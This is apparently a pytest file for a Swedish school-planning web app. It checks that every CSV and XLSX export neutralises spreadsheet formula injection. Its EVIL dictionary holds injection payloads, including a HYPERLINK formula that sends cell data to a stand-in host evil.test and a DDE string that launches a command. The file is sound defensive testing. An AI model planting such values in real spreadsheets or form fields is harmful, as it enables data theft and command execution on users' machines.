"""No exported spreadsheet cell starts a formula, whatever the names and texts it holds.

Unit names, framework titles, a campaign's name, staff comments, a person's name and every text
of a plan are set to what a spreadsheet would run (`=HYPERLINK(…)`, `+1`, `-1`, `@SUM(…)`, and
texts that hide such a start behind a tab or a carriage return). Then every file a strategist or
a leader can download is read back, cell by cell: none may be a formula or start like one.
"""

import csv
import datetime
import io
import json
import re

import openpyxl
import pytest
from django.urls import reverse

from digiplan.lib.spreadsheet import is_formula_like, neutralise
from digiplan.organisations import services as org_services
from digiplan.organisations.models import Role
from digiplan.plans import services as plan_services
from tests.assessment_helpers import INDICATORS
from tests.assessments.test_results import framework, new_unit, run_campaign

YEAR = "2026/27"
EVIL = {
    "link": '=HYPERLINK("http://evil.test/?x="&A1,"Klicka")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "space": "  =cmd|' /C calc'!A0",
}
# A number in a Swedish CSV ("-0,40", "12") is a number, not text: it may start with a minus.
CSV_NUMBER = re.compile(r"-?\d+(,\d+)?")


def _framework_text() -> str:
    """The test framework with an area and indicators given formula titles."""
    text = INDICATORS
    for plain, evil in (
        ("Ledning", EVIL["link"]),
        ("Jag vet vad planen säger", EVIL["at"]),
        ("Jag är trygg med verktygen", EVIL["minus"]),
        ("Jag får hjälp när datorn krånglar", EVIL["plus"]),
    ):
        text = text.replace(f"title: {plain}\n", f"title: {json.dumps(evil)}\n")
    return text


@pytest.fixture
def evil(world):
    link = new_unit(world, EVIL["link"])
    others = [new_unit(world, EVIL[key]) for key in ("tab", "cr", "space")]
    answers = [{"LED.P1": v, "KOMP.P1": v} for v in (1, 2, 3, 4, 5, 2)]
    version = framework(world, _framework_text())
    run = run_campaign(
        world,
        version,
        {unit: answers for unit in (link, *others)},
        pupils={link: [{"KOMP.E1": v} for v in (1, 2, 3, 4, 5)]},
        comments={link: [EVIL["plus"], EVIL["cr"], EVIL["space"]]},
        name=EVIL["minus"],
        school_year=YEAR,
    )
    owner = org_services.person_create(
        actor=None, huvudman=world.huvudman, name=EVIL["at"], email="at@sjovik.test"
    )
    org_services.membership_create(actor=None, person=owner, organisation=link, role=Role.STAFF)
    plan = plan_services.plan_create(
        actor=world.strategist, organisation=link, school_year=YEAR, title=EVIL["link"]
    )
    goal = plan_services.goal_create(
        actor=world.strategist,
        plan=plan,
        title=EVIL["plus"],
        description=EVIL["minus"],
        items=[run.items["LED.P1"]],
        baseline_text=EVIL["tab"],
        target_text=EVIL["at"],
    )
    plan_services.activity_create(
        actor=world.strategist,
        plan=plan,
        title=EVIL["minus"],
        description=EVIL["link"],
        goal=goal,
        owner=owner,
        due_on=datetime.date(2027, 3, 1),
    )
    plan_services.activity_create(actor=world.strategist, plan=plan, title=EVIL["cr"])
    plan = plan_services.plan_publish(actor=world.strategist, plan=plan)
    run.link, run.plan = link, plan
    return run


def _files(client, run, world) -> dict[str, bytes]:
    """Every spreadsheet a strategist can download about the campaign, its reports and plan."""
    year = {"ar": YEAR}
    found = {}
    for fmt in ("csv", "xlsx"):
        found[f"results.{fmt}"] = client.get(reverse("results_export", args=[run.campaign.pk, fmt]))
        found[f"organisation report.{fmt}"] = client.get(reverse("report_org_export", args=[fmt]), year)
        found[f"unit report.{fmt}"] = client.get(reverse("report_export", args=[run.link.pk, fmt]), year)
    found["answers.xlsx"] = client.get(reverse("report_answers_export"), year)
    found["plan.xlsx"] = client.get(reverse("plan_export", args=[run.plan.pk, "xlsx"]))
    for name, response in found.items():
        assert response.status_code == 200, name
    return {
        name: b"".join(response) if response.streaming else response.content
        for name, response in found.items()
    }


def _xlsx_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet; no cell may be a formula."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_texts(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row if not CSV_NUMBER.fullmatch(cell)]


def test_no_cell_of_any_export_starts_a_formula(world, evil, client_for):
    files = _files(client_for("strategist"), evil, world)
    every_text, formulas = [], []
    for name, content in files.items():
        texts = _xlsx_texts(content) if name.endswith(".xlsx") else _csv_texts(content)
        formulas += [(name, text) for text in texts if is_formula_like(text)]
        every_text += texts
    assert formulas == []
    # The evil texts did reach the files, neutralised: the test is not vacuous.
    for key, value in EVIL.items():
        assert any(neutralise(value) in text for text in every_text), key


def test_a_leaders_unit_report_is_neutralised_too(world, evil, client_for):
    org_services.membership_create(
        actor=None, person=world.leader_b, organisation=evil.link, role=Role.UNIT_LEADER
    )
    client = client_for("leader_b")
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("report_export", args=[evil.link.pk, fmt]), {"ar": YEAR})
        assert response.status_code == 200
        texts = (_xlsx_texts if fmt == "xlsx" else _csv_texts)(response.content)
        assert not [text for text in texts if is_formula_like(text)]
        assert "'+1" in texts and "'-1" in texts  # the goal's and an activity's title


@pytest.mark.parametrize("text", [*EVIL.values(), "\n=1", "\uff1d1+1", " -2"])
def test_every_formula_start_is_neutralised(text):
    assert is_formula_like(text)
    assert neutralise(text) == f"'{text}"
    assert not is_formula_like(neutralise(text))


@pytest.mark.parametrize("text", ["Almskolan", "1-2", "–", "A=B", "", "'=1"])
def test_plain_text_is_left_as_it_is(text):
    assert neutralise(text) == text
